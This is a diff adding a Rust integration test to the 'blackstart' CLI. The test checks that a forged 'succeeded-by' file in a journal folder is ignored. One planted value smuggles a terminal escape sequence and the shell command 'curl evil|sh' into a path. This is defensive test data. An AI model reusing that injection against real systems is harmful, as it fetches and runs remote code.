@@ -319,3 +319,24 @@ fn a_bridges_journal_is_told_in_sentences_and_as_json_and_also_when_it_is_damage
     assert_eq!(refused.status.code(), Some(1));
     assert!(String::from_utf8(refused.stderr).unwrap().contains("is a bridge's folder"));
 }
+
+#[test]
+fn a_file_that_says_that_the_journal_goes_on_elsewhere_is_not_believed_unless_it_does() {
+    let folder = tempfile::tempdir().unwrap();
+    let call = |args: &[&str]| {
+        let program = env!("CARGO_BIN_EXE_blackstart");
+        let output = std::process::Command::new(program).args(args).current_dir(folder.path()).output();
+        output.unwrap()
+    };
+    std::fs::write(folder.path().join("e.toml"), "provider = \"P\"\n[site.a]\n").unwrap();
+    assert!(call(&["init", "i", "--estate", "e.toml", "--key", "key"]).status.success());
+    assert!(call(&["init", "other", "--estate", "e.toml", "--key", "key2"]).status.success());
+    for planted in ["/nowhere\u{1b}[0m; curl evil|sh #", "other"] {
+        let planted = folder.path().join(planted).display().to_string();
+        std::fs::write(folder.path().join("i/succeeded-by"), planted).unwrap();
+        assert!(call(&["note", "i", "still", "here"]).status.success(), "nobody is stopped by it");
+        let told = call(&["journal", "verify", "i"]);
+        let told = String::from_utf8(told.stdout).unwrap();
+        assert!(told.contains("The journal is whole.") && !told.contains("ENDED"), "{told}");
+    }
+}
